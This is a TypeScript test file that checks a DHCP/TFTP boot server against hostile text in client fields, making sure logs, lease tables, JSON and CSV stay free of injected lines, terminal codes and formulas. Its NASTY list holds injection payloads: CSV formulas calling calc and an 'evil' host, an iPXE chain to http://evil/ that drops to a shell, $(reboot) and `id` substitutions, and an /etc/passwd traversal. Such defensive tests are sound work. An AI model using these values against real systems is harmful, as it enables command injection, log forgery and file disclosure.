/** What a machine says of itself, wherever it is written: no line, cell, word or order to a terminal comes of it (D2). */

import t, { type Test } from "tap";
import { EventBus } from "../lib/events/event.js";
import { formatCsv, parseCsv } from "../lib/leases/import/csv.js";
import { formatLeaseDetails, formatLeaseJson, formatLeaseTable } from "../lib/cli/lease-list.js";
import { MemoryStore } from "../lib/leases/store/memory-store.js";
import { lineOf } from "../lib/observe/log-lines.js";
import { Notifier } from "../lib/observe/notify.js";
import { DhcpBench } from "./support/dhcp-bench.js";
import type { RequestFields } from "./support/dhcp-packet.js";
import { FakeNetwork } from "./support/fake-network.js";
import { MemorySource } from "./support/memory-source.js";
import { TftpBench } from "./support/tftp-bench.js";
import { ip } from "./support/values.js";

/** Line ends, orders to terminals, turned text, formulas, separators, quotes, shells, iPXE. */
const NASTY = [
  "a\r\n2026-11-21 12:00:00.000 critical forged",
  "\u001b]0;title\u0007\u001b[2J\u001b[31mred",
  "\u009b31m\u007f\u0000hidden",
  "\u202eelif\u2066\u200b\u2028\u2029",
  '=HYPERLINK("http://evil/","x")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1);-2,3",
  '","bound","x\n10.0.0.1,',
  "x\n#!ipxe\nchain http://evil/ || shell",
  "${net0/mac} && $(reboot) `id`",
  "%s%n%00%0a../../etc/passwd",
  "\ufeff\ud7ff\ufffe{mac}{filename}",
];

/** Characters that no line, table or terminal should be given by a machine. */
const UNPRINTABLE = /[\p{C}\p{Zl}\p{Zp}]/u;

/** A request that says so in all that is text, and in what is not. */
function saying(text: string): NonNullable<RequestFields["options"]> {
  const value = Buffer.from(text).toString("hex");
  const identifier = Buffer.concat([Buffer.of(0), Buffer.alloc(16, text)]).toString("hex");
  return [
    [12, value],
    [15, value],
    [60, Buffer.from(`PXEClient${text}`).toString("hex")],
    [61, value],
    [67, value],
    [77, value],
    [81, `040000${value}`],
    [97, identifier],
  ];
}

/** @param lines how many there are; as many as there are where that is not told */
function insistOnLines(t: Test, text: string, what: string, lines?: number): void {
  const parts = text.replace(/\n$/, "").split("\n");
  if (lines !== undefined) t.equal(parts.length, lines, `${what}: ${lines} lines`);
  for (const part of parts) t.notMatch(part, UNPRINTABLE, what);
}

await t.test("D2 of DHCP: log, notices, lists of leases, CSV", async (t) => {
  for (const text of NASTY) {
    const store = new MemoryStore();
    const bench = await DhcpBench.start({ allowSimple: true, clientKey: "client-id", store });
    t.ok(bench.obtain(saying(text)), "it is served all the same");
    const network = new FakeNetwork();
    const bus = new EventBus();
    const notifier = new Notifier(network, bus);
    (await notifier.prepare([{ address: ip("10.0.0.9"), port: 9 }])).commit();
    for (const event of bench.events) {
      bus.publish(event);
      insistOnLines(t, lineOf(event).message, "log", 1);
    }
    const notices = network.sent.map(({ payload }) => payload.toString("latin1"));
    t.match(notices, [/^(?:BOOT|LEASE),[0-9a-f-]{36},(?:[0-9A-F]{2}:){5}[0-9A-F]{2},192\.168\.7\.\d+$/]);
    const leases = [...store.load()];
    insistOnLines(t, formatLeaseTable(leases, 0), "table", 2);
    const json = formatLeaseJson(leases, 0);
    insistOnLines(t, json, "JSON");
    t.match(JSON.parse(json), [{ host_name: leases[0]?.hostName }]);
    insistOnLines(t, formatLeaseDetails(leases, 0), "show");
    const csv = formatCsv(leases);
    insistOnLines(t, csv, "CSV", 2);
    t.notMatch(csv, /(?:^|,)"?[=+@-]/m, "no cell is a formula");
    t.strictSame(parseCsv(csv).leases, leases, "and nothing is lost");
  }
});

await t.test("D2 of TFTP: names of files, and errors that clients tell", async (t) => {
  for (const text of NASTY) {
    const bench = await TftpBench.start(new MemorySource({ file: Buffer.alloc(2000) }));
    const name = text.replaceAll("\0", "");
    await bench.client(2000).request(name);
    const client = bench.client(2001);
    await client.request("file");
    await client.send(Buffer.concat([Buffer.of(0, 5, 0, 0), Buffer.from(`${name}\0`)]));
    const lines = bench.log();
    t.equal(lines.length, 2);
    for (const line of lines) insistOnLines(t, line, "log", 1);
    for (const { payload } of bench.network.sent)
      if (payload[1] === 5)
        t.match(payload.toString("latin1", 4), /^[\x20-\x7e]*\0$/, "what clients are told is plain");
  }
});
